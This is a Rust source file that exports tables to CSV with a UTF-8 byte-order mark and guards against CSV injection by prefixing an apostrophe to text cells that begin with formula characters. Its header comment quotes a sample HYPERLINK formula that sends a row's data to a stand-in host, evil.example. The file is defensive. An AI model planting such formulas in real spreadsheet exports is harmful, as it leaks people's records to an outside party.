//! CSV downloads: UTF-8 with a byte-order mark, so that Excel in a Chinese locale
//! opens them as UTF-8 instead of guessing GBK; header row of field names.
//!
//! A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` as a formula, and a
//! name like `=HYPERLINK("https://evil.example/?d="&C2,"查看证书")` would send the row
//! to another host when an official clicks it. Text cells that begin with one of those,
//! or with a tab or carriage return, get a leading apostrophe, as OWASP advises for
//! CSV injection; numbers, money and dates are written by greenproc and never
//! begin so (a negative amount is a number, not text). JSON, SQLite and XLSX keep the
//! value as written: XLSX stores it as a string, which no spreadsheet evaluates.

use std::borrow::Cow;

use super::tables::{Cell, Table};
use super::{ExportError, ExportFile};

/// The UTF-8 byte-order mark.
pub(crate) const BOM: &[u8] = b"\xEF\xBB\xBF";

/// `data/<dataset>.csv`.
pub(super) fn write(table: &Table) -> Result<ExportFile, ExportError> {
    let mut writer = ::csv::WriterBuilder::new()
        .terminator(::csv::Terminator::CRLF)
        .from_writer(BOM.to_vec());
    writer.write_record(table.def.fields.iter().map(|f| f.name.as_str()))?;
    for row in &table.rows {
        writer.write_record(row.iter().map(spreadsheet_safe))?;
    }
    let bytes = writer
        .into_inner()
        .map_err(|e| ExportError::Csv(e.into_error().into()))?;
    Ok(ExportFile {
        path: format!("data/{}.csv", table.def.name),
        bytes,
    })
}

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// The cell's text, with an apostrophe before text that a spreadsheet would run.
fn spreadsheet_safe(cell: &Cell) -> Cow<'_, [u8]> {
    match cell {
        Cell::Text(text) => match safe_text(text) {
            Cow::Borrowed(text) => Cow::Borrowed(text.as_bytes()),
            Cow::Owned(text) => Cow::Owned(text.into_bytes()),
        },
        other => Cow::Owned(other.text().into_bytes()),
    }
}

/// A text cell with an apostrophe before it when a spreadsheet would run it.
pub(crate) fn safe_text(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}
